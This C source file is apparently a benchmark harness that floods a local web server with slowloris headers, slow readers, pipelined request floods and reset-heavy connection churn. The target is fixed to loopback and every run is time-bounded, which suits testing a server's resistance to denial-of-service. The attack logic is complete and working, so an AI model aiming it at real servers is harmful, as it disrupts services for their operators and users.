/*
 * hostile-attack: the attacking clients of bench/hostile.sh, all in one epoll-driven process, so
 * that thousands of slow connections cost a few per cent of one core and leave the rest of it to
 * the well-behaved wrk that shares the core.
 *
 * Kinds of attack, each bounded in count, all stopping by themselves after --duration seconds:
 *   slowloris  connections trickling an endless request head, one byte every few seconds
 *   slow-file  connections that GET a large file with a tiny receive buffer (SO_RCVBUF set before
 *              connect) and read a few bytes a second
 *   slow-cgi   the same against a streaming CGI script
 *   pipeline   a few connections writing pipelined GETs as fast as the socket takes them, and
 *              reading the answers slowly
 *   churn      connections opened and dropped at once, at a bounded rate, in turn: closed at once,
 *              closed after half a request, reset (SO_LINGER 0) after half a request
 * A held connection (every kind but churn) that the server closes is opened again after about
 * --reconnect-ms, so the count stays near its target and the reconnect rate stays bounded.
 *
 * Only ever 127.0.0.1. stdout: one "ready ..." line once every kind holds its target (or
 * "ready partial ..." after --ready-timeout), then one "attack kind=... key=value ..." line per
 * kind at the end. stderr: a status line every --stats-seconds.
 *
 * Build: cc -O2 -Wall -Wextra -o hostile-attack hostile-attack.c (bench/hostile.sh does it).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <limits.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum kind { SLOWLORIS, SLOW_FILE, SLOW_CGI, PIPELINE, CHURN, KINDS };
static const char *const KIND_NAME[KINDS] = {"slowloris", "slow-file", "slow-cgi", "pipeline", "churn"};

enum state { IDLE, CONNECTING, OPEN };

enum { TICK_MS = 50, READ_PERIOD_MS = 1000, CONNECT_TIMEOUT_MS = 10000, MAX_EVENTS = 512, MAX_CHURN_SLOTS = 1024 };

/* One connection place. The slot, not the fd, is what epoll events name (index and generation), so an
 * event for a connection closed earlier in the same batch is recognised and dropped. */
struct slot {
    int fd;
    uint32_t gen;
    uint8_t kind;
    uint8_t state;
    uint64_t progress; /* slowloris: head bytes sent; pipeline: request bytes sent */
    int64_t due;       /* ms: next reconnect, byte to send, or read; connect deadline while connecting */
};

struct counters {
    long target;
    long held;      /* open now */
    long peak;      /* most open at once */
    long min_held;  /* fewest open at a tick after ready */
    double held_sum; /* held summed over the ticks after ready, for the average */
    long connects, connect_errors, server_closes, resets, errors, requests;
    long long bytes_out, bytes_in;
};

struct config {
    int port;
    int duration_s, ready_timeout_s, stats_s;
    long count[KINDS - 1];  /* held connections per kind */
    const char *path[KINDS - 1];
    int loris_interval_ms;
    int slow_read_bytes;    /* per second and connection */
    int rcvbuf;
    long pipeline_requests; /* per connection before it stops writing */
    int pipeline_read_bytes;/* per second and connection */
    int churn_rate;         /* per second */
    int reconnect_ms;
    int connect_burst;      /* connects in flight at once (held kinds) */
};

static struct config cfg = {
    .ready_timeout_s = 60, .stats_s = 5,
    .path = {"/1k.bin", "/64m.bin", "/cgi-bin/stream.cgi", "/1k.bin"},
    .loris_interval_ms = 3000, .slow_read_bytes = 16, .rcvbuf = 4096,
    .pipeline_requests = 100000, .pipeline_read_bytes = 65536,
    .reconnect_ms = 1000, .connect_burst = 256,
};

static struct counters ctr[KINDS];
static long churn_dropped[3], churn_skipped;
static struct slot *slots;
static long nslots;
static long *churn_free; /* stack of idle churn slot indices */
static long churn_free_top;
static long connecting_held; /* held-kind connects in flight, bounded by connect_burst */
static int epfd;
static struct sockaddr_in target;
static volatile sig_atomic_t stop_requested;
static uint64_t rng = 0x9e3779b97f4a7c15ull;

static char *loris_prefix, *slow_request[2], *pipe_buf;
static size_t loris_prefix_len, slow_request_len[2], pipe_req_len, pipe_buf_len;
static const char LORIS_FILLER[] = "X-Slow: 0123456789abcdef\r\n";
static const char CHURN_PARTIAL[] = "GET /1k.bin HTTP/1.1\r\nHost: 12";

static int64_t now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Between half and one and a half times ms, so that connections opened together drift apart. */
static int64_t jitter(int ms) {
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return ms / 2 + (int64_t)(rng % (uint64_t)(ms > 0 ? ms : 1));
}

static void on_signal(int sig) {
    (void)sig;
    stop_requested = 1;
}

static void fail(const char *what) {
    fprintf(stderr, "hostile-attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

static bool is_held_kind(int kind) { return kind != CHURN; }

/* --- Opening and closing --------------------------------------------------------------------- */

static void opened(struct slot *s, int64_t now);

/* Leaves the slot idle, to be opened again after about reconnect_ms (churn: back on the free stack). */
static void close_slot(struct slot *s, int64_t now) {
    struct counters *c = &ctr[s->kind];
    if (s->state == OPEN && is_held_kind(s->kind)) {
        c->held--;
    }
    if (s->state == CONNECTING && is_held_kind(s->kind)) {
        connecting_held--;
    }
    close(s->fd); /* also takes it out of the epoll set */
    s->fd = -1;
    s->gen++;
    s->state = IDLE;
    s->progress = 0;
    s->due = now + jitter(cfg.reconnect_ms);
    if (s->kind == CHURN) {
        churn_free[churn_free_top++] = s - slots;
    }
}

/* A send or receive failed: a reset (ECONNRESET, EPIPE) or another error. */
static void failed(struct slot *s, int err, int64_t now) {
    if (err == ECONNRESET || err == EPIPE) {
        ctr[s->kind].resets++;
    } else {
        ctr[s->kind].errors++;
    }
    close_slot(s, now);
}

/* The server closed (or reset) a connection that we did not mean to close. */
static void server_gone(struct slot *s, int64_t now) {
    int err = 0;
    socklen_t len = sizeof err;
    getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &err, &len);
    if (err != 0) {
        failed(s, err, now);
    } else {
        ctr[s->kind].server_closes++;
        close_slot(s, now);
    }
}

static void start_connect(struct slot *s, int64_t now) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        ctr[s->kind].connect_errors++;
        s->due = now + jitter(cfg.reconnect_ms);
        if (s->kind == CHURN) {
            churn_free[churn_free_top++] = s - slots;
        }
        return;
    }
    if (s->kind == SLOW_FILE || s->kind == SLOW_CGI) {
        /* Before connect, so the window offered in the handshake is already small. */
        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &cfg.rcvbuf, sizeof cfg.rcvbuf);
    }
    s->fd = fd;
    struct epoll_event ev = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET,
                             .data.u64 = ((uint64_t)s->gen << 32) | (uint64_t)(s - slots)};
    if (epoll_ctl(epfd, EPOLL_CTL_ADD, fd, &ev) != 0) {
        fail("epoll_ctl");
    }
    if (connect(fd, (struct sockaddr *)&target, sizeof target) == 0) {
        opened(s, now);
    } else if (errno == EINPROGRESS) {
        s->state = CONNECTING;
        s->due = now + CONNECT_TIMEOUT_MS;
        if (is_held_kind(s->kind)) {
            connecting_held++;
        }
    } else {
        ctr[s->kind].connect_errors++;
        s->state = CONNECTING; /* so that close_slot counts it right */
        if (is_held_kind(s->kind)) {
            connecting_held++;
        }
        close_slot(s, now);
    }
}

/* --- What each kind does on an open connection ----------------------------------------------- */

/* Sends as much of buf as the socket takes; false when the connection failed (and was closed). */
static bool send_some(struct slot *s, const char *buf, size_t len, size_t *sent, int64_t now) {
    ssize_t n = send(s->fd, buf, len, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n < 0) {
        if (errno == EAGAIN || errno == EINTR) {
            *sent = 0;
            return true;
        }
        failed(s, errno, now);
        return false;
    }
    *sent = (size_t)n;
    ctr[s->kind].bytes_out += n;
    return true;
}

/* Reads at most max bytes (all that is there when max is 0); false when the connection ended. */
static bool receive(struct slot *s, size_t max, int64_t now) {
    static char sink[65536];
    size_t total = 0;
    while (max == 0 || total < max) {
        size_t want = sizeof sink;
        if (max != 0 && max - total < want) {
            want = max - total;
        }
        ssize_t n = recv(s->fd, sink, want, MSG_DONTWAIT);
        if (n > 0) {
            total += (size_t)n;
            ctr[s->kind].bytes_in += n;
        } else if (n == 0) {
            ctr[s->kind].server_closes++;
            close_slot(s, now);
            return false;
        } else if (errno == EAGAIN || errno == EINTR) {
            return true;
        } else {
            failed(s, errno, now);
            return false;
        }
    }
    return true;
}

/* The next byte of a request head that never ends: a request line, then header fields forever. */
static void loris_byte(struct slot *s, int64_t now) {
    char c;
    if (s->progress < loris_prefix_len) {
        c = loris_prefix[s->progress];
    } else {
        c = LORIS_FILLER[(s->progress - loris_prefix_len) % (sizeof LORIS_FILLER - 1)];
    }
    size_t sent;
    if (send_some(s, &c, 1, &sent, now)) {
        s->progress += sent;
        s->due = now + jitter(cfg.loris_interval_ms);
    }
}

/* Pipelined GETs back to back until the socket is full or this connection's quota is sent. */
static void pipeline_write(struct slot *s, int64_t now) {
    uint64_t quota = (uint64_t)cfg.pipeline_requests * pipe_req_len;
    while (s->progress < quota) {
        size_t off = s->progress % pipe_buf_len; /* the buffer holds whole requests */
        size_t len = pipe_buf_len - off;
        if (len > quota - s->progress) {
            len = quota - s->progress;
        }
        size_t sent;
        if (!send_some(s, pipe_buf + off, len, &sent, now)) {
            return;
        }
        ctr[PIPELINE].requests += (long)((s->progress + sent) / pipe_req_len - s->progress / pipe_req_len);
        s->progress += sent;
        if (sent < len) {
            return; /* full: EPOLLOUT says when there is room again */
        }
    }
}

/* Drops a churn connection the way its turn says. */
static void churn_drop(struct slot *s, int64_t now) {
    static unsigned turn;
    unsigned variant = turn++ % 3;
    size_t sent;
    if (variant > 0 && !send_some(s, CHURN_PARTIAL, sizeof CHURN_PARTIAL - 1, &sent, now)) {
        churn_dropped[variant]++;
        return;
    }
    if (variant == 2) {
        struct linger lg = {.l_onoff = 1, .l_linger = 0}; /* close sends RST instead of FIN */
        setsockopt(s->fd, SOL_SOCKET, SO_LINGER, &lg, sizeof lg);
    }
    churn_dropped[variant]++;
    close_slot(s, now);
}

/* A connect completed: count it and start the kind's behaviour. */
static void opened(struct slot *s, int64_t now) {
    struct counters *c = &ctr[s->kind];
    if (s->state == CONNECTING && is_held_kind(s->kind)) {
        connecting_held--;
    }
    s->state = OPEN;
    c->connects++;
    if (is_held_kind(s->kind) && ++c->held > c->peak) {
        c->peak = c->held;
    }
    size_t sent;
    switch (s->kind) {
    case SLOWLORIS:
        loris_byte(s, now);
        break;
    case SLOW_FILE:
    case SLOW_CGI: {
        int i = s->kind == SLOW_FILE ? 0 : 1;
        if (send_some(s, slow_request[i], slow_request_len[i], &sent, now)) {
            s->due = now + jitter(READ_PERIOD_MS);
        }
        break;
    }
    case PIPELINE:
        s->due = now + jitter(READ_PERIOD_MS);
        pipeline_write(s, now);
        break;
    case CHURN:
        churn_drop(s, now);
        break;
    }
}

static void handle_event(struct slot *s, uint32_t events, int64_t now) {
    if (s->state == CONNECTING) {
        int err = 0;
        socklen_t len = sizeof err;
        getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0) {
            ctr[s->kind].connect_errors++;
            close_slot(s, now);
        } else if (events & (EPOLLOUT | EPOLLERR | EPOLLHUP)) {
            opened(s, now);
        }
        return;
    }
    if (s->state != OPEN) {
        return;
    }
    switch (s->kind) {
    case SLOWLORIS:
        /* The server's answer is a 408 or 400 at most: read it all; EOF closes the slot. */
        if (events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
            receive(s, 0, now);
        }
        break;
    case SLOW_FILE:
    case SLOW_CGI:
    case PIPELINE:
        /* Data waits for the slow reads on the tick; only the server going away is acted on. */
        if (events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
            server_gone(s, now);
        } else if (s->kind == PIPELINE && (events & EPOLLOUT)) {
            pipeline_write(s, now);
        }
        break;
    }
}

/* --- The tick: everything that is due by time ------------------------------------------------ */

static void tick_slot(struct slot *s, int64_t now) {
    if (s->due > now) {
        return;
    }
    switch (s->state) {
    case IDLE:
        if (is_held_kind(s->kind) && connecting_held < cfg.connect_burst) {
            start_connect(s, now);
        }
        break;
    case CONNECTING:
        ctr[s->kind].connect_errors++; /* no answer within CONNECT_TIMEOUT_MS */
        close_slot(s, now);
        break;
    case OPEN:
        switch (s->kind) {
        case SLOWLORIS:
            loris_byte(s, now);
            break;
        case SLOW_FILE:
        case SLOW_CGI:
            s->due = now + READ_PERIOD_MS;
            receive(s, (size_t)cfg.slow_read_bytes, now);
            break;
        case PIPELINE:
            s->due = now + READ_PERIOD_MS;
            if (receive(s, (size_t)cfg.pipeline_read_bytes, now)) {
                pipeline_write(s, now);
            }
            break;
        }
        break;
    }
}

/* Opens the churn connections due since the last tick (the rate's fractions carried over). */
static void churn_tick(int64_t now, double *owed) {
    *owed += cfg.churn_rate * (TICK_MS / 1000.0);
    while (*owed >= 1.0) {
        *owed -= 1.0;
        if (churn_free_top == 0) {
            churn_skipped++; /* every churn slot still connecting: the server is not accepting */
            continue;
        }
        start_connect(&slots[churn_free[--churn_free_top]], now);
    }
}

static bool all_held(void) {
    for (int k = 0; k < CHURN; k++) {
        if (ctr[k].held < ctr[k].target) {
            return false;
        }
    }
    return true;
}

static void print_held(FILE *out) {
    for (int k = 0; k < CHURN; k++) {
        if (ctr[k].target > 0) {
            fprintf(out, " %s=%ld/%ld", KIND_NAME[k], ctr[k].held, ctr[k].target);
        }
    }
}

static void print_counters(double ticks_after_ready) {
    for (int k = 0; k < KINDS; k++) {
        struct counters *c = &ctr[k];
        if (k == CHURN) {
            if (cfg.churn_rate == 0) {
                continue;
            }
            printf("attack kind=churn rate=%d connects=%ld connect_errors=%ld dropped_close=%ld dropped_partial=%ld"
                   " dropped_reset=%ld skipped=%ld resets=%ld errors=%ld bytes_out=%lld\n",
                   cfg.churn_rate, c->connects, c->connect_errors, churn_dropped[0], churn_dropped[1], churn_dropped[2],
                   churn_skipped, c->resets, c->errors, c->bytes_out);
            continue;
        }
        if (c->target == 0) {
            continue;
        }
        printf("attack kind=%s target=%ld held=%ld peak=%ld min_held=%ld avg_held=%.0f connects=%ld connect_errors=%ld"
               " server_closes=%ld resets=%ld errors=%ld requests=%ld bytes_out=%lld bytes_in=%lld\n",
               KIND_NAME[k], c->target, c->held, c->peak, ticks_after_ready > 0 ? c->min_held : 0,
               ticks_after_ready > 0 ? c->held_sum / ticks_after_ready : 0.0, c->connects, c->connect_errors,
               c->server_closes, c->resets, c->errors, c->requests, c->bytes_out, c->bytes_in);
    }
    fflush(stdout);
}

/* --- Set-up ---------------------------------------------------------------------------------- */

static char *format(size_t *len, const char *fmt, const char *arg) {
    char *s;
    int n = asprintf(&s, fmt, arg);
    if (n < 0) {
        fail("asprintf");
    }
    *len = (size_t)n;
    return s;
}

static void build_requests(void) {
    loris_prefix = format(&loris_prefix_len, "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: hostile-slowloris\r\n",
                          cfg.path[SLOWLORIS]);
    slow_request[0] = format(&slow_request_len[0], "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: hostile-slow-reader\r\n\r\n",
                             cfg.path[SLOW_FILE]);
    slow_request[1] = format(&slow_request_len[1], "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: hostile-slow-reader\r\n\r\n",
                             cfg.path[SLOW_CGI]);
    char *one = format(&pipe_req_len, "GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", cfg.path[PIPELINE]);
    size_t copies = 65536 / pipe_req_len;
    pipe_buf_len = copies * pipe_req_len;
    pipe_buf = malloc(pipe_buf_len);
    if (pipe_buf == NULL) {
        fail("malloc");
    }
    for (size_t i = 0; i < copies; i++) {
        memcpy(pipe_buf + i * pipe_req_len, one, pipe_req_len);
    }
    free(one);
}

static void make_slots(void) {
    long churn_slots = cfg.churn_rate > MAX_CHURN_SLOTS ? MAX_CHURN_SLOTS : cfg.churn_rate;
    nslots = churn_slots;
    for (int k = 0; k < CHURN; k++) {
        nslots += cfg.count[k];
        ctr[k].target = cfg.count[k];
        ctr[k].min_held = LONG_MAX;
    }
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    if (rl.rlim_cur != RLIM_INFINITY && (rlim_t)nslots + 16 > rl.rlim_cur) {
        fprintf(stderr, "hostile-attack: %ld connections need more open files than the limit of %llu (ulimit -n)\n", nslots,
                (unsigned long long)rl.rlim_cur);
        exit(2);
    }
    slots = calloc((size_t)(nslots > 0 ? nslots : 1), sizeof *slots);
    churn_free = calloc((size_t)(churn_slots > 0 ? churn_slots : 1), sizeof *churn_free);
    if (slots == NULL || churn_free == NULL) {
        fail("calloc");
    }
    long i = 0;
    int64_t now = now_ms();
    for (int k = 0; k < KINDS; k++) {
        long n = k == CHURN ? churn_slots : cfg.count[k];
        for (long j = 0; j < n; j++, i++) {
            slots[i] = (struct slot){.fd = -1, .kind = (uint8_t)k, .state = IDLE, .due = now};
            if (k == CHURN) {
                churn_free[churn_free_top++] = i;
            }
        }
    }
}

static void usage(FILE *out) {
    fprintf(out,
            "usage: hostile-attack --port P --duration S [--slowloris N] [--slow-file N] [--slow-cgi N]\n"
            "         [--pipeline N] [--churn-rate R] [--slowloris-path P] [--slow-file-path P] [--slow-cgi-path P]\n"
            "         [--pipeline-path P] [--slowloris-interval-ms MS] [--slow-read-bytes B] [--rcvbuf B]\n"
            "         [--pipeline-requests N] [--pipeline-read-bytes B] [--reconnect-ms MS] [--connect-burst N]\n"
            "         [--ready-timeout S] [--stats-seconds S]\n"
            "Attacks 127.0.0.1:P only; see the comment at the top of hostile-attack.c.\n");
}

/* A whole number in [lo, hi], or exit 2. */
static long number(const char *name, const char *text, long lo, long hi) {
    char *end;
    errno = 0;
    long v = strtol(text, &end, 10);
    if (errno != 0 || *end != '\0' || end == text || v < lo || v > hi) {
        fprintf(stderr, "hostile-attack: --%s must be a whole number from %ld to %ld (got '%s')\n", name, lo, hi, text);
        exit(2);
    }
    return v;
}

static void parse_args(int argc, char **argv) {
    static const struct option options[] = {
        {"port", required_argument, 0, 'p'},          {"duration", required_argument, 0, 'd'},
        {"slowloris", required_argument, 0, 'L'},     {"slow-file", required_argument, 0, 'F'},
        {"slow-cgi", required_argument, 0, 'C'},      {"pipeline", required_argument, 0, 'P'},
        {"churn-rate", required_argument, 0, 'R'},    {"slowloris-path", required_argument, 0, 1},
        {"slow-file-path", required_argument, 0, 2},  {"slow-cgi-path", required_argument, 0, 3},
        {"pipeline-path", required_argument, 0, 4},   {"slowloris-interval-ms", required_argument, 0, 5},
        {"slow-read-bytes", required_argument, 0, 6}, {"rcvbuf", required_argument, 0, 7},
        {"pipeline-requests", required_argument, 0, 8}, {"pipeline-read-bytes", required_argument, 0, 9},
        {"reconnect-ms", required_argument, 0, 10},   {"connect-burst", required_argument, 0, 11},
        {"ready-timeout", required_argument, 0, 12},  {"stats-seconds", required_argument, 0, 13},
        {"help", no_argument, 0, 'h'},                {0, 0, 0, 0},
    };
    int opt;
    while ((opt = getopt_long(argc, argv, "h", options, NULL)) != -1) {
        const char *name = opt == '?' ? "" : NULL;
        for (const struct option *o = options; name == NULL && o->name; o++) {
            if (o->val == opt) {
                name = o->name;
            }
        }
        switch (opt) {
        case 'p': cfg.port = (int)number(name, optarg, 1, 65535); break;
        case 'd': cfg.duration_s = (int)number(name, optarg, 1, 3600); break;
        case 'L': cfg.count[SLOWLORIS] = number(name, optarg, 0, 100000); break;
        case 'F': cfg.count[SLOW_FILE] = number(name, optarg, 0, 100000); break;
        case 'C': cfg.count[SLOW_CGI] = number(name, optarg, 0, 100000); break;
        case 'P': cfg.count[PIPELINE] = number(name, optarg, 0, 1000); break;
        case 'R': cfg.churn_rate = (int)number(name, optarg, 0, 10000); break;
        case 1: cfg.path[SLOWLORIS] = optarg; break;
        case 2: cfg.path[SLOW_FILE] = optarg; break;
        case 3: cfg.path[SLOW_CGI] = optarg; break;
        case 4: cfg.path[PIPELINE] = optarg; break;
        case 5: cfg.loris_interval_ms = (int)number(name, optarg, 10, 600000); break;
        case 6: cfg.slow_read_bytes = (int)number(name, optarg, 1, 1 << 20); break;
        case 7: cfg.rcvbuf = (int)number(name, optarg, 1, 1 << 24); break;
        case 8: cfg.pipeline_requests = number(name, optarg, 1, 100000000); break;
        case 9: cfg.pipeline_read_bytes = (int)number(name, optarg, 1, 1 << 24); break;
        case 10: cfg.reconnect_ms = (int)number(name, optarg, 10, 600000); break;
        case 11: cfg.connect_burst = (int)number(name, optarg, 1, 100000); break;
        case 12: cfg.ready_timeout_s = (int)number(name, optarg, 1, 3600); break;
        case 13: cfg.stats_s = (int)number(name, optarg, 0, 3600); break;
        case 'h': usage(stdout); exit(0);
        default: usage(stderr); exit(2);
        }
    }
    if (optind != argc || cfg.port == 0 || cfg.duration_s == 0) {
        usage(stderr);
        exit(2);
    }
}

int main(int argc, char **argv) {
    parse_args(argc, argv);
    build_requests();
    make_slots();

    target.sin_family = AF_INET;
    target.sin_port = htons((uint16_t)cfg.port);
    target.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* loopback only, by design */

    signal(SIGPIPE, SIG_IGN);
    struct sigaction sa = {.sa_handler = on_signal};
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    epfd = epoll_create1(EPOLL_CLOEXEC);
    if (epfd < 0) {
        fail("epoll_create1");
    }

    int64_t start = now_ms(), end = start + (int64_t)cfg.duration_s * 1000;
    int64_t next_tick = start, next_stats = start + (int64_t)cfg.stats_s * 1000;
    bool ready = false;
    double ticks_after_ready = 0, churn_owed = 0;
    struct epoll_event events[MAX_EVENTS];

    while (!stop_requested) {
        int64_t now = now_ms();
        if (now >= end) {
            break;
        }
        int wait = next_tick > now ? (int)(next_tick - now) : 0;
        int n = epoll_wait(epfd, events, MAX_EVENTS, wait);
        if (n < 0 && errno != EINTR) {
            fail("epoll_wait");
        }
        now = now_ms();
        for (int i = 0; i < n; i++) {
            struct slot *s = &slots[(uint32_t)events[i].data.u64];
            if (s->gen == (uint32_t)(events[i].data.u64 >> 32) && s->fd >= 0) {
                handle_event(s, events[i].events, now);
            }
        }
        if (now < next_tick) {
            continue;
        }
        next_tick = now + TICK_MS;
        for (long i = 0; i < nslots; i++) {
            tick_slot(&slots[i], now);
        }
        churn_tick(now, &churn_owed);

        if (!ready && (all_held() || now - start >= (int64_t)cfg.ready_timeout_s * 1000)) {
            ready = true;
            printf("ready%s t=%.1fs", all_held() ? "" : " partial", (now - start) / 1000.0);
            print_held(stdout);
            printf("\n");
            fflush(stdout);
        }
        if (ready) {
            ticks_after_ready++;
            for (int k = 0; k < CHURN; k++) {
                ctr[k].held_sum += (double)ctr[k].held;
                if (ctr[k].held < ctr[k].min_held) {
                    ctr[k].min_held = ctr[k].held;
                }
            }
        }
        if (cfg.stats_s > 0 && now >= next_stats) {
            next_stats = now + (int64_t)cfg.stats_s * 1000;
            fprintf(stderr, "hostile-attack: t=%.0fs held", (now - start) / 1000.0);
            print_held(stderr);
            fprintf(stderr, " churn=%ld\n", ctr[CHURN].connects);
        }
    }

    print_counters(ticks_after_ready);
    for (long i = 0; i < nslots; i++) {
        if (slots[i].fd >= 0) {
            close(slots[i].fd);
        }
    }
    return 0;
}
